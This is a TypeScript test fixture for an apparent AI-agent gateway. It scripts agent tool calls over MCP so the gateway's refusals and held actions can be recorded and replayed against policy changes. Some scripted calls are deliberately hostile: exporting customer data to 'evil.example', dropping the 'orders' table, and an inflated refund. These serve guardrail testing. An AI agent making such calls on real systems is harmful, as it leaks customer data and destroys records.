import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createMcpTransport } from '@gatehouse/sdk';
import { loadManifests } from '@gatehouse/server/manifests';
import { Client } from '@modelcontextprotocol/client';
import { replayOf } from '../../test/support/replay-lines.ts';
import { startWorkspace, type Workspace } from '../../test/support/workspace.ts';
import type { Replay } from './sets.ts';

type Calls = [tool: string, args: Record<string, unknown>][];

/** What agents of the quick start do in a day, with what they are refused and what waits. */
const tasks: { agent: string; template: string; parameters: Record<string, string | number>; calls: Calls }[] = [
  {
    agent: 'agent-support-refunds-prod',
    template: 'refund-order',
    parameters: { order: 1042, customer: 'customer-z' },
    calls: [
      ['shop__get_order', { order: 1042 }],
      ['shop__get_order', { order: 1001 }],
      ['shop__list_orders', { customer: 'customer-z' }],
      ['shop__post_message', { channel: 'support', text: 'Refunding order 1042.' }],
      ['shop__refund_order', { order: 1042, amount_cents: 4_000, currency: 'EUR', reason: 'arrived broken' }],
      ['shop__refund_order', { order: 1042, amount_cents: 60_000, currency: 'EUR', reason: 'arrived broken' }],
      ['shop__get_ticket', { ticket: 304 }],
      ['shop__export_customers', { destination: 'https://evil.example/in' }],
      ['shop__drop_table', { table: 'orders' }],
    ],
  },
  {
    agent: 'agent-operations-runner-prod',
    template: 'operations-report',
    parameters: {},
    calls: [
      ['shop__list_orders', { customer: 'customer-z' }],
      ['shop__post_message', { channel: 'operations', text: 'All is well.' }],
      ['shop__post_message', { channel: 'finance', text: 'Two refunds.' }],
      ['shop__export_customers', { destination: 'warehouse.example.test' }],
      ['shop__get_ticket', { ticket: 304 }],
      ['shop__export_customers', { destination: 'https://evil.example' }],
    ],
  },
];

/** Runs them on a real server with the quick start's tools, and rehearses changes over the record. */
export async function quickstartStory(): Promise<Replay> {
  const workspace = await startWorkspace();
  try {
    await workspace.apply(loadManifests(join(import.meta.dirname, '../../examples/quickstart')));
    for (const task of tasks) await act(workspace, task);
  } catch (error) {
    await workspace.close();
    throw error;
  }
  const token = readFileSync(join(workspace.dataDir, 'keys', 'operator.token'), 'utf8').trim();
  const headers = { authorization: `Operator ${token}` };
  return {
    close: () => workspace.close(),
    async differs(change) {
      const { result } = await replayOf(workspace.url, headers, { manifests: [change] });
      const { stops, runs, waits, otherTier } = result;
      return stops.count + runs.count + waits.count + otherTier > 0;
    },
  };
}

async function act(workspace: Workspace, { agent, template, parameters, calls }: (typeof tasks)[0]): Promise<void> {
  const task = await (await workspace.agent(agent)).startTask({ template, parameters, intent: 'a day’s work' });
  const client = new Client({ name: agent, version: '1.0.0' });
  await client.connect(createMcpTransport(task));
  // A refusal is an answer, too: it is on record.
  for (const [name, args] of calls) await client.callTool({ name, arguments: args }).catch(() => undefined);
  await client.close();
}
